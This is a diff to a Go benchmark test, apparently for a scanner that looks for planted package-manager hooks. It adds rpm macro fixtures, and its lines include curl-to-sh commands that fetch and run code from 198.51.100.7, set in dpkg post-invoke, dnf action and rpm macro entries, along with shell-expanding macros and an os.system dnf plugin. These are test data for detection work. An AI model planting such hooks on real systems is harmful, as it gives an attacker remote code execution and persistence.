@@ -57,7 +57,11 @@ func benchRoot(b *testing.B) (string, int) {
 		write(fmt.Sprintf("%s/etc/yum/post-actions/p%04d.action", root, i), "*:any:/usr/bin/true\n")
 		write(fmt.Sprintf("%s/etc/dpkg/dpkg.cfg.d/p%04d", root, i), "post-invoke=touch /tmp/x\n")
 		write(fmt.Sprintf("%s/etc/pacman.d/hooks/p%04d.hook", root, i), "[Trigger]\nOperation = Install\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/true\n")
+		write(fmt.Sprintf("%s/usr/lib/rpm/macros.d/macros.p%04d", root, i),
+			fmt.Sprintf("# planted\n%%__transaction_p%04d\t%%{__plugindir}/p%04d.so\n%%p%04d_shell\t%%(id) \\\n  %%{?x:%%{x}}\n", i, i, i))
+		write(fmt.Sprintf("%s/usr/lib64/rpm-plugins/p%04d.so", root, i), "placeholder\n")
 	}
+	write(root+"/usr/lib/rpm/macros", "%_libdir\t/usr/lib64\n%__plugindir\t%{_libdir}/rpm-plugins\n")
 	n := 0
 	_ = filepath.Walk(root, func(_ string, fi os.FileInfo, _ error) error {
 		if fi != nil && fi.Mode().IsRegular() {
@@ -137,6 +141,7 @@ func BenchmarkPaddedPerMiB(b *testing.B) {
 		{"dpkg_hooks", "etc/dpkg/dpkg.cfg.d/padded", pad("post-invoke=curl -s http://198.51.100.7/s | sh\n", "#")},
 		{"dnf_plugins", "usr/lib/python3/dist-packages/dnf-plugins/padded.py", pad("import dnf, os\n\nclass Padded(dnf.Plugin):\n    name = 'padded'\n    os.system('id')\n", "#")},
 		{"package_manager_actions", "etc/dnf/plugins/post-transaction-actions.d/padded.action", pad("*:any:curl -s http://198.51.100.7/s | sh\n", "#")},
+		{"rpm_macros", "usr/lib/rpm/macros.d/macros.padded", pad("%_dbpath %(curl -s http://198.51.100.7/s | sh)\n", "#")},
 	}
 	tables := map[string]*table.Table{}
 	for _, t := range Tables() {
